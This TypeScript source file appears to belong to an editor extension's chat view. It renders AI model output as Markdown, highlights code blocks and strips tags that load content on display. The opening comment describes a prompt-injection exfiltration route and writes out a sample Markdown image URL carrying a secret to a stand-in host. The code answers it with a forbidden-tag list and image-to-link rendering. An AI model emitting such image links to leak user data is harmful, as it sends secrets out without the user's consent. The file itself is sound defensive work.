// What the chat view may load and how model text becomes HTML. Model text is
// untrusted (a prompt-injected answer is model text): displaying it must
// fetch nothing. The page loads only its own script and styles; images come
// only from the extension's own resources or data: URIs, and a Markdown image
// is rendered as a link the user has to click, never as an <img> that the
// view would fetch on display (`![](https://x/?q=SECRET)` would send the
// secret the moment the answer is shown).
import hljs from 'highlight.js/lib/core';
import bash from 'highlight.js/lib/languages/bash';
import c from 'highlight.js/lib/languages/c';
import cpp from 'highlight.js/lib/languages/cpp';
import css from 'highlight.js/lib/languages/css';
import diff from 'highlight.js/lib/languages/diff';
import go from 'highlight.js/lib/languages/go';
import java from 'highlight.js/lib/languages/java';
import javascript from 'highlight.js/lib/languages/javascript';
import json from 'highlight.js/lib/languages/json';
import python from 'highlight.js/lib/languages/python';
import rust from 'highlight.js/lib/languages/rust';
import sql from 'highlight.js/lib/languages/sql';
import typescript from 'highlight.js/lib/languages/typescript';
import xml from 'highlight.js/lib/languages/xml';
import yaml from 'highlight.js/lib/languages/yaml';
import MarkdownIt from 'markdown-it';

// The highlighter's core with a few common languages (aliases such as sh,
// js, ts, py, rs, html, yml come with them): the whole library would weigh
// several times the rest of the page script.
const LANGUAGES = { bash, c, cpp, css, diff, go, java, javascript, json, python, rust, sql, typescript, xml, yaml };
for (const [name, lang] of Object.entries(LANGUAGES)) if (!hljs.getLanguage(name)) hljs.registerLanguage(name, lang);

/**
 * highlightCode returns the code as HTML with highlight.js token spans (all
 * text escaped), or '' for a language it does not know (the caller escapes).
 */
export function highlightCode(code: string, lang: string): string {
  const name = lang.trim().split(/\s+/)[0]?.toLowerCase() ?? '';
  if (!name || !hljs.getLanguage(name)) return '';
  try {
    return hljs.highlight(code, { language: name, ignoreIllegals: true }).value;
  } catch {
    return '';
  }
}

/** Tags the sanitizer drops from rendered model text (anything that loads on display). */
export const FORBIDDEN_TAGS = ['img', 'picture', 'source', 'video', 'audio', 'track', 'iframe', 'object', 'embed', 'svg', 'image', 'link', 'style', 'form'];

/**
 * markdownRenderer renders model text: raw HTML off, and an image becomes a
 * plain link labelled as an image (the user decides whether to open it).
 */
export function markdownRenderer(): MarkdownIt {
  const md = new MarkdownIt({ html: false, linkify: true, breaks: false, highlight: highlightCode });
  // Each fenced block gets a bar with its language and Copy / Insert at
  // cursor / Apply buttons (Apply proposes it as a reviewed edit). The buttons carry no code: the page reads the block's
  // text when one is clicked (markdown-it's html is off, so model text
  // cannot forge such a button).
  const fence = md.renderer.rules.fence!;
  md.renderer.rules.fence = (tokens, idx, options, env, self) => {
    const lang = tokens[idx].info.trim().split(/\s+/)[0] ?? '';
    const esc = md.utils.escapeHtml;
    return `<div class="codeblock"><div class="code-tools"><span class="code-lang">${esc(lang)}</span>` +
      '<button type="button" class="code-action" data-code-action="copy" title="Copy the code">Copy</button>' +
      '<button type="button" class="code-action" data-code-action="insert" title="Insert the code at the cursor of the last active editor">Insert at cursor</button>' +
      '<button type="button" class="code-action" data-code-action="apply" title="Propose the code in place of the selection it answers, for review in the diff editor">Apply</button>' +
      `</div>${fence(tokens, idx, options, env, self)}</div>`;
  };
  md.renderer.rules.image = (tokens, idx, _options, _env, self) => {
    const token = tokens[idx];
    const alt = self.renderInlineAsText(token.children ?? [], _options, _env);
    const label = `image: ${alt || 'untitled'}`;
    const src = token.attrGet('src') ?? '';
    // markdown-it already normalized src and dropped unsafe schemes
    // (javascript:, vbscript:, file:, most data:); an empty src is text only.
    if (!src) return md.utils.escapeHtml(`[${label}]`);
    return `<a href="${md.utils.escapeHtml(src)}" title="${md.utils.escapeHtml('Not loaded: ' + src)}">${md.utils.escapeHtml(`[${label}]`)}</a>`;
  };
  return md;
}
